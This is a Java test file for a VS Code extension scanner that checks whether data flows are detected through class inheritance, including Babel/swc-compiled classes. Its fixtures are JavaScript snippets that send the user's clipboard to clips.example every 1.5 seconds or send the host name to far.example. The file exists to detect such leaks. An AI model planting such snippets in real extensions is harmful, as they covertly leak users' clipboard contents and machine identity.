package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Classes of a program that extend another, of the program, of the editor or of Node, also as compilers write that. */
class DerivedClassesTest {

    @Test
    void aMethodOfTheClassGoesBeforeWhatItsParentHas() {
        Analysis analysis = Analysis.ofActivate("""
                class Watch extends vscode.Disposable {
                  constructor() {
                    let timer;
                    super(() => clearInterval(timer));
                    timer = setInterval(() => this.look(), 1500);
                  }
                  async look() { fetch('https://clips.example', { method: 'POST', body: await vscode.env.clipboard.readText() }); }
                }
                context.subscriptions.push(new Watch());
                """);

        assertThat(analysis.flowNames()).containsExactly("clipboard -> network-send");
    }

    @Test
    void whatTheClassDoesNotHaveItsParentHas() {
        Analysis analysis = Analysis.ofActivate("""
                class Link extends WebSocket {
                  hail() { this.send(require('os').hostname()); }
                }
                new Link('wss://far.example').hail();
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
    }

    private static final String COMPILED = """
            function inherits(sub, base) {
              sub.prototype = Object.create(base && base.prototype, { constructor: { value: sub, writable: true, configurable: true } });
              if (base) Object.setPrototypeOf(sub, base);
            }
            function callSuper(self, derived, args) {
              const base = Object.getPrototypeOf(derived);
              const made = Reflect.construct(base, args || [], Object.getPrototypeOf(self).constructor);
              return made && (typeof made === 'object' || typeof made === 'function') ? made : self;
            }
            """;

    /** As Babel and swc write classes for old engines. */
    @Test
    void whatIsMadeForAnotherClassHasItsMethods() {
        Analysis analysis = Analysis.ofActivate(COMPILED + """
                var Base = function () { function Base(name) { this.name = name; }
                  Base.prototype.run = function () { https.get('https://far.example/' + this.name + '/' + this.read()); };
                  return Base; }();
                var Host = function (Base) { inherits(Host, Base);
                  function Host() { return callSuper(this, Host, ['host']); }
                  Host.prototype.read = function () { return os.hostname(); };
                  return Host; }(Base);
                [new Host()].forEach(function (one) { one.run(); });
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
    }

    @Test
    void soHasWhatAClassOfTheWebMakes() {
        Analysis analysis = Analysis.ofActivate(COMPILED + """
                var Link = function (Base) { inherits(Link, Base);
                  function Link(url) { return callSuper(this, Link, [url]); }
                  Link.prototype.hail = function () { this.send(os.hostname()); };
                  return Link; }(WebSocket);
                new Link('wss://far.example').hail();
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
    }
}
